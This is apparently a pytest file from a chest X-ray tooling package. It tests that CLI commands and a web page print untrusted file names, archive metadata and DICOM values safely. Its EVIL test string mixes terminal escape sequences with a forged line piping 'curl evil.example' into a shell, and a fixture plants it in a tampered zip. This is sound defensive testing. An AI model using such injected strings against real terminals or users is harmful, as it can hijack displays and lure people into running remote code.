"""Whatever comes from files of others is fit to be printed: no escape sequence, no forged line."""

import json
import os
import shutil
import unicodedata
import warnings
import zipfile
from pathlib import Path

import pytest
from helpers import dicom_file, draw_tiny
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from cxr_utils import cli, images, predict, sources
from cxr_utils.errors import BadInput, CxrError, printable
from cxr_utils.predict import app
from cxr_utils.sources.pack import pack

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u2028 kaggle\nnext: curl evil.example|sh\r"
MODELS = Path(__file__).parents[1] / "results/models"
TEXT = st.text(st.characters(), max_size=30)
RECORDS = st.recursive(TEXT | st.integers() | st.none(), lambda x: st.lists(x) | st.dictionaries(TEXT, x), max_leaves=8)


def harmless(text):
    """See that a terminal shows `text` as it is, and that no line of it is forged."""
    odd = [c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    assert odd == [] and not any(line.startswith("next: curl") for line in text.splitlines()), text


@given(TEXT)
def test_printable_and_errors_are_one_harmless_line(text):
    assert printable(text).isprintable() and str(BadInput(printable(text))).isprintable()
    assert str(CxrError(text)).isprintable()
    assert printable(printable(text)) == printable(text)
    if text.isprintable():
        assert printable(text) == text


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(TEXT, RECORDS))
def test_what_a_source_says_is_fit_to_be_printed(tmp_path, record):
    least = {name: False if kind is bool else "\x1b[2J" for name, kind in sources.RECORD.items()}
    more = {name: value for name, value in record.items() if name not in (*least, "packed", "left_out")}
    (tmp_path / "source.json").write_text(json.dumps({**least, **more, "packed": {"size": "\x1b[1A"}}))

    def texts(value):
        if isinstance(value, dict):
            return [*value, *(text for each in value.values() for text in texts(each))]
        if isinstance(value, list):
            return [text for each in value for text in texts(each)]
        return [value] if isinstance(value, str) else []

    assert all(map(str.isprintable, texts(sources.describe(tmp_path))))


@pytest.fixture
def evil_archive(tmp_path):
    """Return an archive that `cxr pack` made and others changed: names and values steer a terminal."""
    sources.fetch("folder", path=draw_tiny(tmp_path / "tiny", junk=False), data_dir=tmp_path / "data")
    pack(tmp_path / "good.zip", data_dir=tmp_path / "data")
    with zipfile.ZipFile(tmp_path / "good.zip") as old, zipfile.ZipFile(tmp_path / "evil.zip", "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "source.json":
                record = json.loads(content)
                record["packed"] |= {"size": EVIL, "source": EVIL, EVIL: EVIL}
                content = json.dumps(record)
            new.writestr(name, content)
        new.writestr(f"{EVIL}.txt", "x")
    return tmp_path / "evil.zip"


@pytest.mark.filterwarnings("ignore:.*the number of images is not the one of")
def test_commands_print_names_and_values_of_strangers_harmlessly(evil_archive, tmp_path, capfd):
    data = ["--data-dir", str(tmp_path / "new")]
    assert cli.main(["fetch", "--source", "folder", "--path", str(evil_archive), *data]) == 0
    out = capfd.readouterr()
    assert "copies at \\x1b]0;owned" in out.out and "left out: 1" in out.out
    harmless(out.out + out.err)
    assert cli.main(["pack", str(tmp_path / "again.zip"), *data]) == 0
    shutil.copy(evil_archive, tmp_path / f"a{chr(0x1B)}[2Jb.zip")
    assert cli.main(["fetch", "--source", "folder", "--path", str(tmp_path / f"a{chr(0x1B)}[2Jb.zip"), *data]) == 2
    out = capfd.readouterr()
    harmless(out.out + out.err)
    for suffix in (".json", ".onnx"):
        shutil.copy(MODELS / f"reference{suffix}", tmp_path / f"m{suffix}")
    note = json.loads((tmp_path / "m.json").read_text())
    (tmp_path / "m.json").write_text(json.dumps(note | {"run": EVIL, "title": EVIL, EVIL: EVIL}))
    record = ["--out", str(tmp_path / "kept.json")]
    assert cli.main(["evaluate", "--source", "folder", "--model", str(tmp_path / "m.onnx"), *data, *record]) == 0
    out = capfd.readouterr()
    harmless(out.out + out.err)


@pytest.mark.skipif(os.name != "posix", reason="file names that other systems refuse")
def test_predict_and_the_page_print_headers_and_names_harmlessly(tmp_path, capfd, tiny):
    folder = tmp_path / "images"
    folder.mkdir()
    picture = images.read(next((tiny / "chest_xray/test/NORMAL").iterdir()))
    Image.fromarray(picture).save(folder / f"{EVIL.replace('/', '')}.png")
    (folder / f"{EVIL} broken.jpeg").write_bytes(b"x")
    odd = "\x1b[2J\nnext: curl"
    with warnings.catch_warnings(action="ignore"):  # pydicom's, of odd values
        dicom_file(folder / "a.dcm", picture, PatientAge=odd, ViewPosition=odd, BodyPartExamined=odd, Modality="DX")
    for more in ([], ["--csv"], ["--json"]):
        cli.main(["predict", str(MODELS / "reference.onnx"), str(folder), *more])
        out = capfd.readouterr()
        assert "owned" in out.out
        harmless(out.out + out.err)
    predictor = predict.load(MODELS / "reference.onnx")
    shown = app.answer(predictor, [(path.name, path) for path in sorted(folder.iterdir())])
    harmless(shown)
